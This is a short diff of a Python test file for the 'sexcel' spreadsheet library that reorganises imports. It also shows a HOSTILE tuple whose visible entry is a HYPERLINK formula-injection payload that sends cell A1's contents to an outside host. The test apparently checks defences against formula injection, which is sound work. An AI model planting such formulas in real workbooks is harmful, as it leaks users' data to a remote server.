@@ -13,10 +13,9 @@ import sexcel
 from sexcel.model.book import Book, BookTable, Entry, Role, Row
 from sexcel.model.publication import Publication
 from sexcel.model.tables import Kind
-from sexcel.writers.workbook import write_workbook
 from tests.graft.published import build_published
 from tests.writers.ooxml import MAIN, WrittenPackage, faults
-from tests.writers.regenerating import published
+from tests.writers.regenerating import published, write_workbook
 
 HOSTILE = (
     '=HYPERLINK("http://example.org/?"&A1,"click")',
